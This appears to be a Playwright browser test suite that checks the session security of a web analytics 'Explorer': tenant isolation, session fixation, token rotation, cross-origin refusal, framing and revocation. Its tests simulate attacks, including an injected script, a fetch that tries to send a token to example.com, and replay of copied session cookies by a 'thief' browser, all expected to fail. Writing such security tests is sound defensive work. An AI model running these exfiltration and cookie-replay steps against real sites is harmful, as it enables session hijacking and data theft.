import { expect } from "chai";
import type { BrowserContext, Page } from "playwright-core";
import { Credentials } from "../../src/core/access/credentials.ts";
import { Sessions } from "../../src/features/people/sessions.ts";
import { AURORA } from "../support/data.ts";
import { landedFixtures } from "../support/shared.ts";
import { findBrowser } from "./browser.ts";
import { type Opened, openExplorer, serve } from "./opened.ts";
import * as on from "./page.ts";

const OTHER = "0bbbbbbb-0000-4000-8000-000000000001";
const NAMES: Readonly<Record<string, string>> = { [AURORA]: "Casa Aurora", [OTHER]: "Outra Casa" };
const CARDS = `/v1/profitability/cards?organizationId=${AURORA}`;

describe("A session of the Explorer in a browser", function () {
  this.timeout(300_000);
  let opened: Opened;
  let credentials: Credentials;
  let contexts: BrowserContext[] = [];
  let base: string;
  /** Another origin of the same host, to which browsers send even a cookie that is SameSite=Strict. */
  let neighbour: Awaited<ReturnType<typeof serve>>;

  before(async function () {
    const executable = findBrowser();
    if (!executable) this.skip();
    const data = await landedFixtures();
    await data.settings({ organizationId: OTHER, name: NAMES[OTHER] as string, integrations: [] });
    await data.sync(OTHER);
    const { dataDir } = data.config;
    credentials = new Credentials(dataDir);
    const sessions = new Sessions({ dataDir, credentials });
    opened = await openExplorer(executable, data, AURORA, { credentials, sessions });
    base = opened.base;
    neighbour = await serve((_, response) => response.setHeader("content-type", "text/html").end("<p>hello"));
  });

  afterEach(async () => {
    for (const context of contexts) await context.close();
    contexts = [];
  });

  after(async () => {
    neighbour?.close();
    await opened?.close();
  });

  const newKeys = async (...organizations: string[]) => {
    const { client_id: clientId, client_secret: clientSecret } = await credentials.create({ organizations, name: "" });
    return { clientId, clientSecret };
  };
  const newContext = async (): Promise<BrowserContext> => {
    const context = await opened.browser.newContext({ reducedMotion: "reduce", locale: "pt-BR" });
    contexts.push(context);
    return context;
  };
  const tab = async (context: BrowserContext, address = `${base}/explorer`): Promise<Page> => {
    const page = await context.newPage();
    page.setDefaultTimeout(60_000);
    await page.goto(address);
    return page;
  };
  const isOut = (page: Page): Promise<void> => page.locator("[name=key]").waitFor();
  const isIn = (page: Page, organization: string): Promise<void> =>
    page
      .locator("header", { hasText: NAMES[organization] as string })
      .first()
      .waitFor();
  const cookieOf = async (context: BrowserContext) =>
    (await context.cookies(base)).find(({ name }) => name === "lucra_session");
  /** The status of a request that a page of the service sends. */
  const statusOf = (page: Page, address: string): Promise<number> =>
    page.evaluate(async (asked) => (await fetch(asked, { headers: { "x-lucra-page": "1" } })).status, address);
  const signedIn = async (
    ...organizations: string[]
  ): Promise<{ context: BrowserContext; page: Page; clientId: string }> => {
    const keys = await newKeys(...organizations);
    const context = await newContext();
    const page = await tab(context);
    await isOut(page);
    await on.signIn(page, keys);
    await isIn(page, organizations[0] as string);
    return { context, page, clientId: keys.clientId };
  };

  it("shows two organizations in two tabs, each only its own, also after a reload; signing out ends both", async () => {
    const { context, page: first } = await signedIn(AURORA, OTHER);
    const second = await tab(context, `${base}/explorer#/${OTHER}/data`);
    await isIn(second, OTHER);
    const asked: string[] = [];
    for (const page of [first, second]) {
      page.on("request", (sent) => {
        const organization = new URL(sent.url()).searchParams.get("organizationId");
        if (organization) asked.push(`${page === first ? AURORA : OTHER} ${organization}`);
      });
    }
    await on.goTo(first, `${AURORA}/acquisition?from=2025-02-01&to=2025-02-28`);
    await first.locator("[data-picture=results] tbody tr").first().waitFor();
    await Promise.all([first.reload(), second.reload()]);
    await isIn(first, AURORA);
    await isIn(second, OTHER);
    await first.locator("[data-picture=results] tbody tr").first().waitFor();
    expect(asked.length).to.be.greaterThan(4);
    expect(asked.filter((one) => one.split(" ")[0] !== one.split(" ")[1])).to.deep.equal([]);
    await on.chooseInMenu(first, "Sair");
    await isOut(first);
    await second.reload();
    await isOut(second);
  });

  it("of one client shows nothing of another client's organization, in another tab of another browser", async () => {
    const { page: ours } = await signedIn(AURORA);
    const { page: theirs } = await signedIn(OTHER);
    expect(await statusOf(ours, CARDS)).to.equal(200);
    expect(await statusOf(theirs, CARDS)).to.equal(403);
    expect(await statusOf(ours, CARDS.replace(AURORA, OTHER))).to.equal(403);
  });

  it("gets another token than one that was planted before the sign-in, which stays worthless (fixation)", async () => {
    const planted = "A".repeat(43);
    const context = await newContext();
    await context.addCookies([{ name: "lucra_session", value: planted, url: base }]);
    const page = await tab(context);
    await isOut(page);
    await on.signIn(page, await newKeys(AURORA));
    await isIn(page, AURORA);
    const cookie = await cookieOf(context);
    expect(cookie?.value).to.not.equal(planted);
    const thief = await newContext();
    await thief.addCookies([{ name: "lucra_session", value: planted, url: base }]);
    expect(await statusOf(await tab(thief), CARDS)).to.equal(401);
  });

  it("and a second sign-in ends the token of the first", async () => {
    const { context, page } = await signedIn(AURORA);
    const before = (await cookieOf(context))?.value ?? "";
    const keys = await newKeys(AURORA);
    const status = await page.evaluate(async (body) => {
      const headers = { "x-lucra-page": "1", "content-type": "application/json" };
      return (await fetch("/explorer/session", { method: "POST", headers, body: JSON.stringify(body) })).status;
    }, keys);
    expect(status).to.equal(200);
    await page.reload();
    await isIn(page, AURORA);
    expect((await cookieOf(context))?.value).to.not.equal(before);
    const thief = await newContext();
    await thief.addCookies([{ name: "lucra_session", value: before, url: base }]);
    expect(await statusOf(await tab(thief), CARDS)).to.equal(401);
  });

  it("answers nothing to pages of another origin, neither of another site nor of another port", async () => {
    const { context, page: own } = await signedIn(AURORA);
    for (const origin of [neighbour.base, neighbour.base.replace("127.0.0.1", "localhost")]) {
      const evil = await tab(context, origin);
      const statuses: number[] = [];
      evil.on("response", (response) => {
        if (response.url().startsWith(base)) statuses.push(response.status());
      });
      const tried = await evil.evaluate(
        async ({ image, requests }) => {
          const results: string[] = [];
          for (const [address, sent] of requests) {
            const answer = fetch(address, { credentials: "include", ...sent });
            results.push(await answer.then(({ status }) => `${status}`).catch(() => "refused"));
          }
          const shown = document.createElement("img");
          shown.src = image;
          await new Promise((done) => {
            shown.onload = done;
            shown.onerror = done;
          });
          return [...results, shown.naturalWidth > 0 ? "shown" : "refused"];
        },
        {
          image: base + CARDS,
          requests: [
            [base + CARDS, {}],
            // The mark of the page makes the browser ask first.
            [base + CARDS, { headers: { "x-lucra-page": "1" } }],
            [`${base}/explorer/session`, { method: "DELETE" }],
            [`${base}/explorer/session`, { method: "POST", body: "{}", headers: { "content-type": "text/plain" } }],
          ] as [string, RequestInit][],
        },
      );
      expect(tried, origin).to.deep.equal(Array(5).fill("refused"));
      expect(
        statuses.filter((status) => status < 400 && status !== 204),
        `${origin}: ${statuses}`,
      ).to.deep.equal([]);
      await evil.close();
    }
    expect(await statusOf(own, CARDS), "still signed in").to.equal(200);
  });

  it("is in no frame of another origin", async () => {
    const { context } = await signedIn(AURORA);
    const evil = await tab(context, neighbour.base);
    await evil.evaluate((address) => {
      const frame = document.createElement("iframe");
      frame.src = address;
      document.body.append(frame);
    }, `${base}/explorer`);
    await evil.waitForTimeout(1_500);
    const framed = evil.frames().find((frame) => frame !== evil.mainFrame());
    expect(framed?.url() ?? "").to.not.equal(`${base}/explorer`);
  });

  it("is not to be had by scripts: neither the cookie nor a script of a text", async () => {
    const { context, page } = await signedIn(AURORA);
    const value = (await cookieOf(context))?.value ?? "";
    expect(value).to.have.length.greaterThan(30);
    const found = await page.evaluate(async (token) => {
      const isRun = new Promise<boolean>((answer) => {
        const script = document.createElement("script");
        script.textContent = "window.isStolen = true";
        document.body.append(script);
        setTimeout(() => answer("isStolen" in window), 200);
      });
      const sent = await fetch("https://example.com/?token", { mode: "no-cors" }).then(
        () => "sent",
        () => "refused",
      );
      const stored = JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, history.state]);
      return { cookie: document.cookie, isRun: await isRun, sent, isStored: stored.includes(token) };
    }, value);
    expect(found).to.deep.equal({ cookie: "", isRun: false, sent: "refused", isStored: false });
  });

  it("is over after the sign-out and after the client's revocation, for whoever kept the cookie", async () => {
    for (const end of ["sign-out", "revocation"]) {
      const { context, page, clientId } = await signedIn(AURORA);
      const cookie = await cookieOf(context);
      const thief = await newContext();
      await thief.addCookies([{ name: "lucra_session", value: cookie?.value ?? "", url: base }]);
      const stolen = await tab(thief);
      expect(await statusOf(stolen, CARDS), "a copied cookie works until then").to.equal(200);
      if (end === "sign-out") {
        await on.chooseInMenu(page, "Sair");
        await isOut(page);
        expect(await cookieOf(context), "the browser has it no more").to.equal(undefined);
      } else {
        await credentials.revoke(clientId);
        await page.reload();
        await isOut(page);
      }
      expect(await statusOf(stolen, CARDS), end).to.equal(401);
      await stolen.reload();
      await isOut(stolen);
    }
  });

  it("does not begin with a one-time link where people do not sign in; the address keeps no token", async () => {
    const token = "A".repeat(43);
    const page = await tab(await newContext(), `${base}/explorer#signin=${token}`);
    await isOut(page);
    await page.getByText("Este link já foi usado ou venceu").waitFor();
    expect(page.url()).to.not.include(token);
    expect(await statusOf(page, CARDS)).to.equal(401);
  });

  it("leads to the address that was asked for before it", async () => {
    const page = await tab(await newContext(), `${base}/explorer#/${AURORA}/acquisition?from=2025-02-01&to=2025-02-28`);
    await isOut(page);
    await on.signIn(page, await newKeys(AURORA, OTHER));
    await page.locator("[data-picture=results] tbody tr").first().waitFor();
    expect(page.url()).to.include("/acquisition?from=2025-02-01&to=2025-02-28");
    expect(await page.locator("[data-picture=results] tbody tr").first().innerText()).to.include("Nossa Marca Aurora");
  });
});
